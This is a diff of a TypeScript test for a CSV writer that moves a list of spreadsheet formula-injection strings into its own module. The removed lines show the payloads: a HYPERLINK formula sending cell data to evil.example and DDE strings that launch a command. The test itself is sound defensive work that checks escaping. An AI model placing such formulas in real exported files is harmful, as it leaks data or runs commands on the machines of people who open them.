@@ -7,17 +7,7 @@ import { tmpdir } from "os";
 import { join } from "path";
 import Papa from "papaparse";
 import { unparseRows, writeCsvFile } from "../../src/cli/csvOut";
-
-export const INJECTIONS = [
-  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-  "=cmd|' /C calc'!A0",
-  "+1+cmd|' /C calc'!A0",
-  "-2+3",
-  "@SUM(1,2)",
-  "\t=1+1",
-  "\r=1+1",
-  "=1+1\nsecond line",
-];
+import { INJECTIONS } from "./injections";
 
 test("every injection string is written as quoted text starting with '", () => {
   const text = unparseRows(INJECTIONS.map((s) => [s, 1]));
